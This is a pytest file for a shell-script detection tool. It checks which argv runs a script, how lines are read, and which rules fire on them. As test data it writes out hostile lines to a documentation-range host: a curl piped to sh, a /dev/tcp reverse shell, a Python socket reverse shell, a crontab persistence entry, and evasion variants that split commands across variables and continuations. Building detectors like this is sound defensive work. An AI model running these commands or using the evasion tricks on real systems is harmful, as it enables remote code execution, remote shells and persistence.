"""A shell script's lines judged like the same lines typed (gpuguard/scripts.py, agent/config_peek.py script_lines,
collector/rules/context.py): which argv runs a script, which of its lines are read, and what the rules make of them
(pure logic, and real files for the read)."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from agent.config_peek import MAX_SCRIPT_LINES, ConfigPeek, script_lines
from collector.rules.context import with_here_documents
from gpuguard.scripts import MAX_JOINED_LINE, script_of
from tests.test_benign_commands import LINES, raised_by
from tests.test_rule_corpus import exec_event


@pytest.mark.parametrize("argv, script", [
    (["bash", "run.sh"], "run.sh"),
    (["/bin/sh", "./x.sh", "a", "b"], "./x.sh"),              # a #! script reaches the kernel this way
    (["bash", "-eu", "-o", "pipefail", "job.sh"], "job.sh"),
    (["-bash", "--norc", "j.sh"], "j.sh"),
    (["busybox", "sh", "/tmp/.x/s"], "/tmp/.x/s"),
    (["dash", "--", "-odd-name.sh"], "-odd-name.sh"),
    (["bash", "-c", "echo hi", "name"], None),                # inline code
    (["bash", "-ec", "echo hi"], None),
    (["sh", "-s", "arg"], None),                              # stdin
    (["bash"], None),
    (["python3", "run.py"], None),                            # not a shell
])
def test_which_argv_runs_a_script(argv, script):
    assert script_of(argv) == script


def test_only_command_lines_are_read_and_bounded():
    body = "#!/bin/sh\n# a comment\n\nset -eu\nif true; then\n  echo ok\nfi\n" + "true\n" * (MAX_SCRIPT_LINES + 5)
    lines = script_lines("s.sh", body.encode())
    assert lines[0] == "s.sh:5: if true; then" and lines[1] == "s.sh:6: echo ok"
    assert len(lines) == MAX_SCRIPT_LINES + 1 and lines[-1] == "s.sh: 7 more command lines not read"


def test_a_script_is_read_as_the_process_sees_it(tmp_path):
    (tmp_path / "run.sh").write_text("sleep 30\ncurl -s http://198.51.100.7/x | sh\n")
    proc = subprocess.Popen(["sleep", "30"], cwd=tmp_path)
    try:
        lines = ConfigPeek().script("run.sh", proc.pid, 0, 0)
    finally:
        proc.kill()
        proc.wait(5)
    assert lines == ["run.sh:1: sleep 30", "run.sh:2: curl -s http://198.51.100.7/x | sh"]


def test_the_systems_own_scripts_are_not_read():
    assert ConfigPeek().script("/usr/bin/which", 1, 0, 0) == []


def fired_for_script(lines: list[str], argv=("bash", "run.sh")) -> set[str]:
    ev = exec_event({"argv": list(argv), "exe": "/usr/bin/bash",
                     "config_lines": [f"run.sh:{i}: {line}" for i, line in enumerate(lines, start=1)]})
    return raised_by(ev)


def test_builtins_pipes_and_redirections_in_a_script_fire_what_they_fire_typed():
    assert "reverse-shell-dev-tcp" in fired_for_script(["exec 3<>/dev/tcp/198.51.100.7/4444", "sh <&3 >&3"])
    assert "download-piped-to-shell" in fired_for_script(["curl -s http://198.51.100.7/x | sh"])
    assert "persistence-from-job" in fired_for_script(["echo '* * * * * root /tmp/.x' >> /etc/crontab"])


def test_a_variable_set_on_one_line_is_read_where_another_uses_it():
    assert "download-piped-to-shell" in fired_for_script(["a=cu", "b=rl", "$a$b -s http://198.51.100.7/x | sh"])


def test_a_here_document_is_read_with_the_command_that_reads_it():
    code = ["python3 - <<'PY'", "import socket,subprocess,os", "s=socket.socket();s.connect(('198.51.100.7',4444))",
            "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])", "PY", "echo done"]
    assert "socket-wired-to-shell-in-code" in fired_for_script(code)
    assert with_here_documents(["cat > f <<EOF", "a", "EOF", "b"]) == ["cat > f <<EOF ; a ; EOF", "b"]


def test_lines_of_a_config_file_are_not_read_as_a_script():
    ev = exec_event({"argv": ["./x", "-c", "run.sh"], "config_lines": ["run.sh:1: curl -s http://198.51.100.7/x | sh"]})
    assert "download-piped-to-shell" not in raised_by(ev)


def test_ordinary_commands_as_scripts_raise_nothing():
    """The benign corpus's command lines, twenty to a script: no rule pattern spans two lines of a script."""
    for i in range(0, len(LINES), 20):
        assert not fired_for_script(LINES[i:i + 20]), LINES[i:i + 20]


def fired_for_file(body: str | bytes, name: str = "run.sh") -> set[str]:
    """What the rules make of a script file read as the agent reads it (``script_lines``), run as ``bash NAME``."""
    data = body.encode() if isinstance(body, str) else body
    ev = exec_event({"argv": ["/bin/bash", name], "exe": "/usr/bin/bash", "config_lines": script_lines(name, data)})
    return raised_by(ev)



ATTACK_SCRIPTS = sorted((Path(__file__).parent / "corpus" / "attack_scripts").glob("*.sh"))


@pytest.mark.parametrize("path", ATTACK_SCRIPTS, ids=lambda p: p.name)
def test_attack_scripts_raise_something(path):
    """Scripts of a held-out pass (never run: read as the agent reads them) stay caught."""
    assert fired_for_file(path.read_bytes(), path.name), path.read_text()


BENIGN_SCRIPTS = sorted((Path(__file__).parent / "corpus" / "benign_scripts").glob("*.sh"))


@pytest.mark.parametrize("path", BENIGN_SCRIPTS, ids=lambda p: p.name)
def test_training_scripts_raise_nothing(path):
    """Scripts in the shape of public training repositories' launchers (continuation lines, data files named .txt,
    comments holding brace lists, srun with cache mounts, a .netrc written for a tracker): read as the agent reads
    them, quiet."""
    assert not fired_for_file(path.read_bytes(), path.name), path.read_text()


def test_a_command_spread_over_lines_is_read_whole():
    """The shell joins a line ending in a backslash to the next: so does the reader, a pipe to sh on the next line
    or a command's name cut in two is judged as the shell runs it."""
    assert script_lines("run.sh", b"curl -s http://198.51.100.7/x \\\n  | sh\necho ok\n") == [
        "run.sh:1: curl -s http://198.51.100.7/x   | sh", "run.sh:3: echo ok"]
    assert "download-piped-to-shell" in fired_for_file("curl -s http://198.51.100.7/x \\\n  | sh\n")
    assert "download-piped-to-shell" in fired_for_file("cu\\\nrl -s http://198.51.100.7/x | s\\\nh\n")


def test_comments_are_no_commands():
    """A comment's brace list, backticks or URL are not read as a command; '#' inside quotes or a word stays."""
    assert script_lines("run.sh", b"d=  # `{train,valid}.npy`\necho '# kept' \"#\" a#b $# # cut\n") == [
        "run.sh:1: d=", "run.sh:2: echo '# kept' \"#\" a#b $#"]
    assert not fired_for_file("d=/data  # `{curl,-s,http://198.51.100.7/x}` | sh\n")
    assert "download-piped-to-shell" in fired_for_file("curl -s 'http://198.51.100.7/#x' | sh  # fetch\n")


def test_a_here_document_body_is_passed_through_and_a_here_string_is_not_one():
    body = b"python3 - <<'PY'\nimport os  # a comment in the code\nPY\nbase64 -d <<< aGk= \\\n | sh\n"
    assert script_lines("run.sh", body) == [
        "run.sh:1: python3 - <<'PY'", "run.sh:2: import os  # a comment in the code", "run.sh:3: PY",
        "run.sh:4: base64 -d <<< aGk=  | sh"]


def test_a_joined_line_stops_growing_at_its_bound():
    """Padding a line with continuations does not push a command out of what is read: past MAX_JOINED_LINE the
    next line starts a line of its own."""
    body = ("true " + "x" * 1500 + " \\\n") * 3 + "curl -s http://198.51.100.7/x | sh\n"
    lines = script_lines("run.sh", body.encode())
    assert all(len(line) <= MAX_JOINED_LINE + 16 for line in lines)
    assert "download-piped-to-shell" in fired_for_file(body)
